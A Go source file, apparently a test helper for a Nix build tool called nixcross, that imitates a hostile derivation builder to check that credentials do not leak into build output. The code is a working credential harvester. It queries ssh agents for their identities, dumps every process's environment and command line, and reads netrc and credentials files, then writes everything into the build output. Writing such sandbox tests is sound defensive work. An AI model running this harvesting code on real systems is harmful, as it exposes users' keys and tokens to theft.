//go:build linux

package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// snoop is a hostile derivation's builder: it looks for every credential
// nixcross forwards for fetching (the ssh agent, access-tokens in Nix's
// configuration or in any process's environment or command line, netrc
// files, the secrets tmpfs) and writes into $out what it tried and what it
// found, as a derivation could publish it in its output (issue 21). The
// test reads $out: every attempt must be there, and no secret.
func snoop(out string) error {
	var report strings.Builder
	say := func(format string, args ...any) { fmt.Fprintf(&report, format+"\n", args...) }
	say("uid %d gid %d groups %v", os.Getuid(), os.Getgid(), groups())
	if m := os.Getenv("message"); m != "" {
		// What an input gave the derivation: the test knows the run
		// fetched it.
		say("message %s", m)
	}

	// Every unix socket it can find, ssh agents among them: ask each for
	// its identities, as ssh-add -l does.
	var sockets []string
	for _, root := range []string{"/run", "/tmp", "/var/run", "/root", "/nix/var"} {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				say("walk %s: %v", p, err)
				return nil
			}
			if d.Type()&fs.ModeSocket != 0 {
				sockets = append(sockets, p)
			}
			return nil
		})
	}
	for _, p := range append(sockets, "/run/nixcross-agent/agent.sock", "/run/nixcross-ssh-agent.sock", os.Getenv("SSH_AUTH_SOCK")) {
		if p != "" {
			say("agent %s: %s", p, agentIdentities(p))
		}
	}

	// Every process's environment and command line.
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		for _, f := range []string{"environ", "cmdline"} {
			data, err := os.ReadFile(filepath.Join(p, f))
			if err != nil {
				say("%s/%s: %v", p, f, err)
				continue
			}
			say("%s/%s: %q", p, f, data)
		}
	}

	// The secrets directory, and any file that looks like a credential.
	for _, dir := range []string{"/run/nixcross", "/run/nixcross-agent"} {
		entries, err := os.ReadDir(dir)
		say("list %s: %d entries, %v", dir, len(entries), err)
	}
	for _, p := range []string{"/run/nixcross/netrc", "/run/nixcross/credentials.conf", "/run/nixcross/inputs-known_hosts", "/run/nixcross/builders-key", "/root/.netrc", "/etc/nix/netrc"} {
		say("read %s: %s", p, readFile(p))
	}
	for _, root := range []string{"/run", "/root", "/tmp", "/etc/nix", "/home"} {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && (strings.Contains(d.Name(), "netrc") || strings.Contains(d.Name(), "credentials") || strings.HasSuffix(d.Name(), ".conf")) {
				say("found %s: %s", p, readFile(p))
			}
			return nil
		})
	}
	if err := os.MkdirAll(out, 0o755); err != nil {
		return err
	}
	return os.WriteFile(filepath.Join(out, "found"), []byte(report.String()), 0o644)
}

func groups() []int {
	g, _ := os.Getgroups()
	return g
}

func readFile(p string) string {
	data, err := os.ReadFile(p)
	if err != nil {
		return err.Error()
	}
	return fmt.Sprintf("%q", data)
}

// agentIdentities asks an ssh agent at sock for its identities
// (SSH2_AGENTC_REQUEST_IDENTITIES) and says what it answered.
func agentIdentities(sock string) string {
	c, err := net.DialTimeout("unix", sock, 2*time.Second)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Write([]byte{0, 0, 0, 1, 11}); err != nil {
		return err.Error()
	}
	var n uint32
	if err := binary.Read(c, binary.BigEndian, &n); err != nil {
		return "connected, no answer: " + err.Error()
	}
	msg := make([]byte, min(n, 1<<20))
	if _, err := io.ReadFull(c, msg); err != nil {
		return "connected, short answer: " + err.Error()
	}
	if len(msg) < 5 || msg[0] != 12 {
		return fmt.Sprintf("connected, answer %q", msg)
	}
	return fmt.Sprintf("IDENTITIES %d: %q", binary.BigEndian.Uint32(msg[1:5]), msg[5:])
}
